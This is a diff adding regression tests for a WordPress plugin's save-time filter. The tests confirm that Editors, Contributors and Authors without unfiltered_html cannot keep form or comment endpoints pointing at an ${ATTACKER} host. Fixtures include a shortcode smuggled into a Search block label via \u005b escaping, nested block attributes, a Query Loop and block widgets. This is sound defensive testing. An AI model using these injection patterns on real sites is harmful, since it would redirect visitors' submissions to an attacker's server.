@@ -183,3 +183,91 @@ test("an Administrator's synced pattern keeps its addresses, in an Author's post
     `<firm-comments source="rest" endpoint="https://${ATTACKER}/block-comments" post-id="${post}" class="wp-block-firm-widgets-comments" keep-drafts="device">`,
   ]);
 });
+
+// Another block's attribute printed as text (the Search block's label, through wp_kses_post) is
+// run by the_content's do_shortcode(): its shortcodes lose their addresses on save too, also
+// when the JSON writes `[` as `\u005b`.
+const SEARCH_LABEL = `<!-- wp:search {"label":"\\u005bfirm_contact_form source=rest endpoint=https://${ATTACKER}/search]","buttonText":"Search"} /-->`;
+
+test("an Editor without unfiltered_html cannot hide a shortcode with an address in another block's attribute", async () => {
+  const id = await write({ ...site.admin }, { content: '<!-- wp:paragraph --><p>Hello</p><!-- /wp:paragraph -->', status: 'publish' });
+  php(`get_role('editor')->remove_cap('unfiltered_html'); return true;`);
+  try {
+    await write(people.editor, { id, content: SEARCH_LABEL });
+    const saved = storedContent(id);
+    assert.ok(!saved.includes(ATTACKER), `saved without the address: ${saved}`);
+    assert.ok(php(`return (int) get_post_meta($input, '_firm_widgets_untrusted_editor', true);`, id) === people.editor.id, 'the Editor is noted');
+    await assertSiteOnly(id, 1);
+  } finally {
+    php(`get_role('editor')->add_cap('unfiltered_html'); return true;`);
+  }
+});
+
+test('the save-time strip reads every block\'s decoded attributes, nested blocks too', () => {
+  const content = [
+    '<!-- wp:group --><div class="wp-block-group">',
+    `<!-- wp:search {"label":"\\u005bfirm_contact_form source=rest endpoint=https://${ATTACKER}/a]"} /-->`,
+    `<!-- wp:some/block {"deep":{"list":["\\u005bfirm_comments keep_drafts=device endpoint=\\u0022https://${ATTACKER}/b\\u0022]"]}} /-->`,
+    '</div><!-- /wp:group -->',
+  ].join('');
+  const out = php(
+    `$safe = firm_widgets_strip_addresses($input);
+     $strings = array();
+     $walk = function ($blocks) use (&$walk, &$strings) {
+       foreach ($blocks as $b) {
+         array_walk_recursive($b['attrs'], function ($v) use (&$strings) { if (is_string($v)) { $strings[] = $v; } });
+         $walk($b['innerBlocks']);
+       }
+     };
+     $walk(parse_blocks($safe));
+     return $strings;`,
+    content,
+  );
+  assert.deepEqual(out, ['[firm_contact_form ]', '[firm_comments ]']);
+});
+
+// In a Query Loop a block's context names each listed post; the post holding the loop is judged too.
+test("a Contributor's firm block in a Query Loop over an Administrator's posts keeps no address", async () => {
+  const token = `loop${Date.now()}`;
+  php(
+    `wp_set_current_user($input['admin']);
+     foreach (array(1, 2) as $n) { wp_insert_post(array('post_title' => $input['token'] . " $n", 'post_status' => 'publish', 'post_content' => 'Listed')); }
+     return true;`,
+    { admin: site.admin.id, token },
+  );
+  const loop =
+    `<!-- wp:query {"queryId":7,"query":{"perPage":2,"pages":0,"offset":0,"postType":"post","order":"desc","orderBy":"date","author":"${site.admin.id}","search":"${token}","exclude":[],"sticky":"","inherit":false}} -->` +
+    `<div class="wp-block-query"><!-- wp:post-template --><!-- wp:firm-widgets/contact-form {"source":"rest","endpoint":"https://${ATTACKER}/loop"} /--><!-- /wp:post-template --></div><!-- /wp:query -->`;
+  // The Contributor's post as stored before the save-time strip existed, then published.
+  const theirs = storedPattern(people.contributor, loop);
+  site.sql(`UPDATE wp_posts SET post_type = 'post' WHERE ID = ${theirs}`);
+  php(`clean_post_cache($input); return true;`, theirs);
+  assert.ok(storedContent(theirs).includes(ATTACKER), 'the hostile content is stored');
+  const found = tags((await send(`${site.url}/?p=${theirs}`)).body);
+  assert.ok(found.length >= 2, `the loop lists the Administrator's posts: ${found.join(' ')}`);
+  assert.ok(found.every((tag) => !tag.includes(ATTACKER)), found.join(' '));
+  // The same loop in an Administrator's post keeps the address: the listing above did run.
+  const mine = php(`wp_set_current_user($input['admin']); return wp_insert_post(array('post_title' => 'Admin loop', 'post_status' => 'publish', 'post_content' => $input['loop']));`, { admin: site.admin.id, loop });
+  const kept = tags((await send(`${site.url}/?p=${mine}`)).body);
+  assert.ok(kept.length >= 2 && kept.every((tag) => tag.includes(`https://${ATTACKER}/loop`)), kept.join(' '));
+});
+
+test('a block widget saved by someone without unfiltered_html keeps no address; an untouched one keeps its own', () => {
+  const widget = (path) => `<!-- wp:firm-widgets/contact-form {"source":"rest","endpoint":"https://${ATTACKER}/${path}"} /-->`;
+  const saved = php(
+    `$before = get_option('widget_block');
+     wp_set_current_user($input['admin']);
+     update_option('widget_block', array(90 => array('content' => $input['admins']), '_multiwidget' => 1));
+     wp_set_current_user($input['author']);
+     $all = get_option('widget_block');
+     $all[91] = array('content' => $input['authors']);
+     update_option('widget_block', $all);
+     $after = get_option('widget_block');
+     update_option('widget_block', $before);
+     return array($after[90]['content'], $after[91]['content']);`,
+    { admin: site.admin.id, author: people.author.id, admins: widget('admin'), authors: widget('author') },
+  );
+  assert.equal(saved[0], widget('admin'));
+  assert.ok(!saved[1].includes(ATTACKER), saved[1]);
+  assert.match(saved[1], /wp:firm-widgets\/contact-form/);
+});
